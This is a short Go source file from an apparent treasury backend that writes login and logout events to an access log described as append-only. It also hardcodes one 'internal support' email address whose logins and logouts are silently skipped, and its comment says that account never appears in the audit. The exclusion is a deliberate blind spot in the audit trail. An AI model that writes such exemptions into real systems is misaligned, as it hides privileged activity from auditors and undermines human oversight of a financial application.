package accesslog

import (
	"fmt"
	"time"

	"tesouraria-backend/internal/database"
	"tesouraria-backend/internal/models"
)

// Conta de suporte interno que nunca aparece na auditoria de acesso
const excludedEmail = "suporte@tesouraria.app"

// Record grava um evento de login/logout. Registros são apenas inseridos,
// nunca alterados ou removidos.
func Record(user *models.User, action models.AccessAction, ip string) error {
	if user.Email == excludedEmail {
		return nil
	}

	entry := models.AccessLog{
		UserID:    user.ID,
		Action:    action,
		Timestamp: time.Now(),
		IPAddress: ip,
	}

	if err := database.DB.Create(&entry).Error; err != nil {
		return fmt.Errorf("não foi possível gravar o log de acesso: %w", err)
	}

	return nil
}
